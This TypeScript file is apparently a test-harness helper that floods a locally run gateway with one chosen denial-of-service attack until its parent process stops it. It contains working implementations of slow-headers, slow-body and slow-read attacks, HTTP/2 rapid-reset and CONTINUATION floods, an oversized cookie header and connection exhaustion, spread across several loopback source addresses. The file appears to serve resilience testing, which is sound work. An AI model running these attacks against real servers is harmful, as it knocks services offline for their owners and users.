/** `node attacker.ts KIND PORT CA_FILE`: one kind of attack on a gateway until the parent lets go; says when it stands. */
import { readFileSync } from "node:fs";
import { connect as connectTcp } from "node:net";
import { connect } from "node:tls";
import type { TLSSocket } from "node:tls";
import { END_HEADERS, END_STREAM, FRAME, frame, headerBlock, PREFACE } from "../../support/http2-frames.ts";

/** Connections of one address, as the gateway allows. */
const PER_ADDRESS = 900;
const HOST = "Host: localhost\r\n";

interface Attack {
  readonly connections: number;
  readonly protocol: "http/1.1" | "h2";
  /** What a connection does once it stands. */
  readonly act: (socket: TLSSocket) => void;
}

/** One byte a second keeps a connection alive for servers that ask only for some progress. */
function drip(socket: TLSSocket, byte: string): void {
  const timer = setInterval(() => socket.write(byte), 1_000);
  socket.once("close", () => clearInterval(timer));
}

/** As fast as the other side takes it. */
function pour(socket: TLSSocket, next: () => Buffer): void {
  const more = (): void => {
    while (!socket.destroyed && socket.write(next()));
  };
  socket.on("drain", more);
  more();
}

const REQUEST = headerBlock([
  [":method", "GET"],
  [":scheme", "https"],
  [":path", "/"],
  [":authority", "localhost"],
]);

const ATTACKS: Readonly<Record<string, Attack>> = {
  "slow-headers": {
    connections: 1_000,
    protocol: "http/1.1",
    act(socket) {
      socket.write(`GET / HTTP/1.1\r\n${HOST}X-A: `);
      drip(socket, "a");
    },
  },
  "slow-body": {
    connections: 1_000,
    protocol: "http/1.1",
    act(socket) {
      socket.write(`POST / HTTP/1.1\r\n${HOST}Content-Length: 100000\r\n\r\n`);
      drip(socket, "a");
    },
  },
  "slow-read": {
    connections: 500,
    protocol: "http/1.1",
    act(socket) {
      socket.pause();
      socket.write(`GET / HTTP/1.1\r\n${HOST}\r\n`.repeat(500));
    },
  },
  "rapid-reset": {
    connections: 4,
    protocol: "h2",
    act(socket) {
      let stream = 1;
      socket.write(Buffer.concat([PREFACE, frame(FRAME.settings, 0, 0)]));
      pour(socket, () => {
        const frames = [];
        for (let index = 0; index < 100; index++, stream += 2)
          frames.push(
            frame(FRAME.headers, END_STREAM | END_HEADERS, stream, REQUEST),
            frame(FRAME.rstStream, 0, stream, Buffer.from([0, 0, 0, 8])),
          );
        return Buffer.concat(frames);
      });
    },
  },
  continuation: {
    connections: 4,
    protocol: "h2",
    act(socket) {
      socket.write(
        Buffer.concat([PREFACE, frame(FRAME.settings, 0, 0), frame(FRAME.headers, END_STREAM, 1, REQUEST)]),
      );
      const more = frame(FRAME.continuation, 0, 1, headerBlock([["a", "b"]]));
      pour(socket, () => Buffer.concat(Array.from({ length: 200 }, () => more)));
    },
  },
  cookies: {
    connections: 4,
    protocol: "http/1.1",
    act(socket) {
      socket.write(`GET / HTTP/1.1\r\n${HOST}Cookie: ${"a=1; ".repeat(200_000)}\r\n\r\n`);
    },
  },
  connections: { connections: 10_000, protocol: "http/1.1", act: () => undefined },
};

const [, , kind = "", port = "", caFile = ""] = process.argv;
const attack = ATTACKS[kind];
if (attack === undefined)
  throw new Error(`unknown attack \`${kind}\`: expected one of ${Object.keys(ATTACKS).join(", ")}`);
const ca = readFileSync(caFile, "utf8");

/** Opens one connection, and another in its place when it is ended. */
function open(place: number): Promise<void> {
  return new Promise((resolve) => {
    // Visitors come from another address of loopback.
    const localAddress = `127.0.1.${1 + Math.floor(place / PER_ADDRESS)}`;
    const socket = connect({
      socket: connectTcp({ host: "127.0.0.1", port: Number(port), localAddress }),
      servername: "localhost",
      ca,
      ALPNProtocols: [attack?.protocol ?? ""],
    });
    socket.on("error", () => socket.destroy());
    socket.on("data", () => undefined);
    socket.once("secureConnect", () => {
      attack?.act(socket);
      resolve();
    });
    socket.once("close", () => {
      resolve();
      setTimeout(() => void open(place), 100);
    });
  });
}

const LANES = 50;
let next = 0;
await Promise.all(
  Array.from({ length: LANES }, async () => {
    while (next < attack.connections) await open(next++);
  }),
);
process.once("disconnect", () => process.exit(0));
process.send?.("standing");
